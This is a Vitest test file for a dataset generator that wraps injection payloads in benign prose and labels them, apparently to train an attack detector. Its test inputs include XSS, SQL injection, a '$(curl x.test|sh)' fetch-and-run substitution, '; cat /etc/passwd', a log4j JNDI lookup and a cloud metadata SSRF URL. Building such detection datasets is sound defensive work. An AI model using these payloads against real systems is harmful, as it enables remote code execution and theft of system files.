/**
 * Context-wrapped training texts (datasets/context-wrap.ts): attack payloads of the training material in benign prose,
 * their benign twins, and the prose the dilution-carriers measurement keeps for itself left out.
 */
import { describe, expect, it } from 'vitest';
import { contextWrappedTexts, twinCandidate, wrapInProse, wrappableAttack, type ProsePools } from '../../datasets/context-wrap.js';
import { MESSAGES } from '../../datasets/lib/phrases.js';
import { Rng } from '../../datasets/lib/rng.js';

const POOLS: ProsePools = {
  shakespeare: ['Before we proceed any further, hear me speak.', 'You are all resolved rather to die than to famish?'],
  readme: ['Install the package with npm and import it from your module.'],
  faker: ['The Ergonomic Steel Chair comes with a warranty.'],
};

describe('wrapInProse', () => {
  it('keeps the payload whole, with 5-400 chars of prose before, after or around it', () => {
    const rng = new Rng(5);
    const positions = new Set<string>();
    for (let i = 0; i < 200; i++) {
      const { text } = wrapInProse(rng, POOLS, '<svg onload=alert(1)>');
      expect(text).toContain('<svg onload=alert(1)>');
      const extra = text.length - '<svg onload=alert(1)>'.length;
      expect(extra).toBeGreaterThanOrEqual(2);
      expect(extra).toBeLessThanOrEqual(800);
      positions.add(text.startsWith('<svg') ? 'after' : text.endsWith('(1)>') ? 'before' : 'around');
    }
    expect([...positions].sort()).toEqual(['after', 'around', 'before']);
  });
});

describe('contextWrappedTexts', () => {
  it('is deterministic by seed and labels wrapped attacks 1, twins, mentions and prose 0', () => {
    const a = contextWrappedTexts(3, POOLS, ["' OR 1=1--", '$(id)'], ['the <br> tag', 'a=b&c=d'], 50);
    expect(a).toEqual(contextWrappedTexts(3, POOLS, ["' OR 1=1--", '$(id)'], ['the <br> tag', 'a=b&c=d'], 50));
    expect(a.filter((t) => t.label === 1)).toHaveLength(50);
    expect(a.filter((t) => t.label === 0)).toHaveLength(65);
    expect(a.filter((t) => t.category.startsWith('twin:'))).toHaveLength(25);
    expect(a.filter((t) => t.category.startsWith('mention:'))).toHaveLength(25);
    for (const t of a.filter((x) => x.label === 1)) expect(t.text.includes("' OR 1=1--") || t.text.includes('$(id)')).toBe(true);
    expect(contextWrappedTexts(4, POOLS, ["' OR 1=1--"], ['x=1'], 20)).not.toEqual(contextWrappedTexts(3, POOLS, ["' OR 1=1--"], ['x=1'], 20));
  });

  it('never draws the support messages the carriers hold out', () => {
    const held = MESSAGES.en_US.filter((m) => m.length >= 20);
    for (const t of contextWrappedTexts(1, POOLS, ['<svg onload=alert(1)>'], ['x=1'], 100)) for (const m of held) expect(t.text).not.toContain(m);
  });
});

describe('what is wrapped', () => {
  it('takes attacks of the kinds that work inside text, and benign values with attack punctuation', () => {
    expect(wrappableAttack('libinjection/sqli', "1' OR '1'='1")).toBe(true);
    expect(wrappableAttack('mutation:payloadsallthethings/cmdexe', '; cat /etc/passwd')).toBe(true);
    expect(wrappableAttack('family/shell-substitution', '$(curl x.test|sh)')).toBe(true);
    expect(wrappableAttack('synthetic/traversal', '../../../../etc/passwd')).toBe(false);
    expect(wrappableAttack('family/ssrf-metadata', 'http://169.254.169.254/latest/meta-data/')).toBe(false);
    expect(wrappableAttack('libinjection/sqli', '1%27%20OR%201=1')).toBe(false);
    expect(wrappableAttack('exploit/jenkins-script-console', "script=println('x')")).toBe(false);
    expect(wrappableAttack('exploit/log4j-jndi-header', '${jndi:ldap://x.test/a}')).toBe(true);
    expect(twinCandidate('the <br> tag')).toBe(true);
    expect(twinCandidate('hello world')).toBe(false);
  });
});
